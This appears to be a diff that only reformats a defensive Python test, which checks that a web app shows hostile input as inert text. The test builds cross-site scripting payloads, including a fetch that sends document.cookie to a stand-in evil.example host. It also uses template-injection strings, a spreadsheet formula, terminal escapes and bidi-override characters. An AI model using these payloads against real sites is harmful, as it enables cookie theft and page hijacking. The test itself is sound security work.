@@ -1,4 +1,4 @@
-"""Text that means harm is shown, and does nothing: scripts, markup, terminal escapes, formulas, bidi overrides."""
+"""Text that means harm is shown, and does nothing: scripts, markup, escapes, formulas, bidi overrides."""
 
 from __future__ import annotations
 
@@ -18,29 +18,46 @@ from tests.web.conftest import Shown
 _ACTS = (
     "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
     "<iframe src=javascript:{}></iframe>", "<a href='javascript:{}'>x</a>", "<body onload={}>",
-    "<details open ontoggle={}>", "<math><mtext></mtext><script>{}</script></math>", "<style>@import '{}'</style>",
+    "<details open ontoggle={}>", "<math><mtext></mtext><script>{}</script></math>",
+    "<style>@import '{}'</style>",
     "<link rel=stylesheet href={}>", "<meta http-equiv=refresh content='0;url={}'>", "<base href={}>",
-    "<form action={}><input name=csrf></form>", "<textarea autofocus onfocus={}>", "<object data={}></object>",
+    "<form action={}><input name=csrf></form>", "<textarea autofocus onfocus={}>",
+    "<object data={}></object>",
     "<!--{}-->", "<![CDATA[{}]]>", "<template>{}</template>", "<noscript>{}</noscript>",
 )  # fmt: skip
 _DEEDS = (
-    "alert(1)", "fetch('//evil.example/'+document.cookie)", "document.body.innerHTML=''", "//evil.example/x.js",
+    "alert(1)", "fetch('//evil.example/'+document.cookie)", "document.body.innerHTML=''",
+    "//evil.example/x.js",
     "location='//evil.example'",
 )  # fmt: skip
-_FRAMES = ("{}", "\"'>{}", "</title></textarea></style></script>{}", "{{{{ 7*7 }}}}{{% raw %}}{}", "&lt;{}&#60;")
-_SIGNS = ("=HYPERLINK(\"http://evil\")", "\x1b]0;owned\x07", "\x1b[2J", "\u202egnp.exe", "\u2066x\u2069", "\u2028", "\x9b31m", "\ufeff")
+_FRAMES = (
+    "{}",
+    "\"'>{}",
+    "</title></textarea></style></script>{}",
+    "{{{{ 7*7 }}}}{{% raw %}}{}",
+    "&lt;{}&#60;",
+)
+_SIGNS = (
+    '=HYPERLINK("http://evil")',
+    "\x1b]0;owned\x07",
+    "\x1b[2J",
+    "\u202egnp.exe",
+    "\u2066x\u2069",
+    "\u2028",
+    "\x9b31m",
+    "\ufeff",
+)
 PAYLOADS = [
     frame.format(act.format(deed)) + sign
     for (act, deed, frame), sign in zip(
         itertools.product(_ACTS, _DEEDS, _FRAMES), itertools.cycle(_SIGNS), strict=False
     )
 ]
-ALLOWED = {
-    "html", "head", "meta", "title", "link", "script", "body", "a", "header", "p", "nav", "ul", "li", "form", "label",
-    "input", "button", "main", "footer", "b", "h1", "h2", "h3", "ol", "div", "span", "sup", "aside", "details",
-    "summary", "dl", "dt", "dd", "code", "br", "blockquote", "section", "article", "mark", "time", "textarea", "kbd",
-    "select", "option", "table", "thead", "tbody", "tr", "th", "td", "caption", "svg", "rect", "figure", "figcaption", "i", "q",
-}  # fmt: skip
+ALLOWED = set(
+    """html head meta title link script body a header p nav ul li form label input button main footer b h1 h2 h3
+    ol div span sup aside details summary dl dt dd code br blockquote section article mark time textarea kbd select
+    option table thead tbody tr th td caption svg rect figure figcaption i q""".split()
+)
 _HIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
 
 
@@ -79,9 +96,17 @@ class Page(HTMLParser):
 
 
 def hostile(store: Store, payloads: list[str]) -> tuple[str, dict[str, str]]:
-    """One article whose claims are the payloads, and one that contradicts them; its key, and the claims' texts."""
+    """One article whose claims are the payloads, and one against them; its key, and the claims' texts."""
     body = "\n\n".join(f"Holt said {payload} here." for payload in payloads)
-    named = article(payloads[0] + ".txt", body, 1, payloads[1], title=payloads[2], byline=payloads[3], url="javascript:alert(1)")
+    named = article(
+        payloads[0] + ".txt",
+        body,
+        1,
+        payloads[1],
+        title=payloads[2],
+        byline=payloads[3],
+        url="javascript:alert(1)",
+    )
     spans = []
     at = 0
     for payload in payloads:
@@ -105,7 +130,8 @@ def test_payloads_are_shown_inert(shown: Shown, part: int) -> None:
     key, claims = hostile(shown.store, payloads)
     first = next(iter(claims))
     paths = [
-        "/", f"/articles/{key}", "/articles", "/claims", f"/claims/{first}", "/relations", "/review", "/disputes",
+        "/", f"/articles/{key}", "/articles", "/claims", f"/claims/{first}", "/relations", "/review",
+        "/disputes",
         f"/speakers/{MAYOR.key}", "/search?q=onerror", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
     ]  # fmt: skip
     for path in paths:
